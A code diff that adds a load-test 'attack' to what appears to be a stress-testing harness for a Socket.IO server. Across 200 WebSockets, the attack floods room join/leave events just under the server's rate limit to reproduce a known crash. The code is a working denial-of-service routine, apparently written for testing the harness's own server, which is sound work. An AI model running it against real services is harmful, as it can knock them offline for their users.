@@ -176,3 +176,51 @@ export const malformedEngineIo: Attack = {
     if (serverViolation) ctx.defect(`Engine.IO's 400 for an unknown sid reported as a server violation: ${serverViolation}`);
   },
 };
+
+/**
+ * The mechanism of crash #1 over the WebSocket transport: every join/leave emits a `rooms` event
+ * listing every socket and room of the namespace, so the events grow with the sockets. 20
+ * sessions × 10 raw Engine.IO WebSockets (the session's Engine.IO client limit), each joining and
+ * leaving rooms of 64-character names in `/` and `/comments`, at 45 frames/s per session (under
+ * the 50/s rate, so the server keeps them).
+ */
+export const socketIoRoomsChurn: Attack = {
+  name: 'sio-rooms-churn',
+  title: '20 sessions × 10 raw Socket.IO WebSockets joining/leaving 64-char rooms at 45 frames/s per session',
+  async run(ctx) {
+    const ids = await ctx.createSessions(ctx.ip(), 20);
+    if (ids.length === 0) return ctx.note('no session');
+    let sent = 0;
+    let opened = 0;
+    const room = (i: number) => `${String(i % 8).padStart(2, '0')}${'r'.repeat(62)}`;
+    await ctx.workers(ids.length, async (w) => {
+      const id = ids[w];
+      const sockets = [];
+      for (let c = 0; c < 10 && ctx.running; c++) {
+        const ws = await ctx.ws(ctx.ip(1 + (w % 4)), `/s/${id}/socket.io/?EIO=4&transport=websocket&client=R${c}`);
+        if (!ws.open) {
+          ws.destroy();
+          continue;
+        }
+        opened++;
+        ws.send(Buffer.concat([clientFrame(OP.text, '40'), clientFrame(OP.text, '40/comments,')]));
+        sockets.push(ws);
+      }
+      if (sockets.length === 0) return;
+      // 45 frames per second per session, spread over its sockets: join rooms, then leave them.
+      for (let tick = 0; ctx.running; tick++) {
+        const live = sockets.filter((s) => s.open);
+        if (live.length === 0) break;
+        for (let i = 0; i < 9; i++) {
+          const n = tick * 9 + i;
+          const nsp = n % 2 ? '/comments,' : '';
+          const verb = Math.floor(n / 16) % 2 ? 'leave' : 'join';
+          live[n % live.length].send(clientFrame(OP.text, `42${nsp}["${verb}","${room(n >> 1)}"]`));
+          sent++;
+        }
+        await ctx.sleep(200);
+      }
+    });
+    ctx.note(`${opened} Socket.IO WebSockets, ${sent} join/leave packets`);
+  },
+};
